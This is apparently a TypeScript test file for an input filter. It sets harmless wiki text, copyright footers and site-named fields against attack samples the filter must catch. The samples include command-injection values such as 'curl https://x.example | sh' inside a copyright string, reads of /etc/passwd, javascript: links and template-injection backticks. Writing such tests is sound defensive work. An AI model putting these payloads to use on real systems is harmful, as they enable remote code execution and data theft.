import { asked, filled, type HonestKinds, posted, sent, testKinds } from './honest-kinds.ts'

/** What pages of wikis and sites are made of, as their editors and their settings send it. */
const KINDS: HonestKinds = {
  'a copyright with a link': {
    honest: [
      sent({ attribution: '&copy; <a href="https://www.openstreetmap.org/copyright">OpenStreetMap</a>' }),
      sent({ html: '<p>&copy; 2026 <a href="https://shop.example">Shop</a></p>' }),
      filled({ footer: '&copy; Ann Miller, https://ann.example' }),
      asked('/tiles', { attribution: 'Map data &copy; <a href="http://osm.example/">OSM</a>' }),
    ],
    attacks: [
      filled({ a: 'x & copy https://x.example/a.exe a.exe' }),
      filled({ a: '&copy https://x.example/a.exe' }),
      filled({ a: '&copy;id;whoami;cat /etc/passwd' }),
      filled({ a: '&copy; curl https://x.example | sh' }),
      sent({ a: '&copy; $(curl https://x.example/a)' }),
    ],
  },
  'pages of wikis': {
    honest: [
      sent({ text: 'See the [[JavaScript console|Web Developer Tools]] of your browser.' }),
      filled({ wpTextbox1: 'He wrote [[JavaScript: The Good Parts]] and [[JavaScript syntax|more]].' }),
      sent({ text: 'Edit [[$:/DefaultTiddlers]] to this filter: `[tag[x]]`' }),
      filled({ text: 'the [[$:/favicon.ico]] tiddler is at `/favicon.ico`' }),
      filled({ text: '|Number |<b>a</b> |\n|Type |<$text text={{{ [<feature>jsonget[properties]] }}}/> |' }),
      filled({ text: 'For example, `--fetch` takes a name' }),
      filled({ text: "git log --format='%s <%an>' v1..v2 prints `name`" }),
    ],
    attacks: [
      sent({ text: '[[javascript:alert(1)|x]]' }),
      sent({ text: '[[JavaScript: alert(1)]]' }),
      filled({ text: '[[$`id`]]' }),
      filled({ text: '[[$:/x]] <%= `id` %>' }),
      filled({ text: '<%an%><%= `id` %>' }),
      filled({ text: '<%a = `id`%>' }),
      filled({ text: '`--alert`1`' }),
      filled({ text: "'-fetch`//x.example`-'" }),
      filled({ text: '`--fetch`;alert(1)//' }),
      filled({ text: '|type c:\\boot.ini > x.txt' }),
      filled({ text: '|Type |ls > /tmp/x' }),
    ],
  },
  'a variable named for a site': {
    honest: [
      sent({ 'Example.com API Key': 'x' }),
      sent({ 'Example.com account': 'ann' }),
      filled({ 'Booking.com user': 'ann' }),
    ],
    attacks: [
      sent({ 'calc.exe 1 1 1': '' }),
      sent({ 'command.com /c dir': '' }),
      posted('application/x-www-form-urlencoded', 'format.com+c:=1'),
    ],
  },
}

testKinds(KINDS)
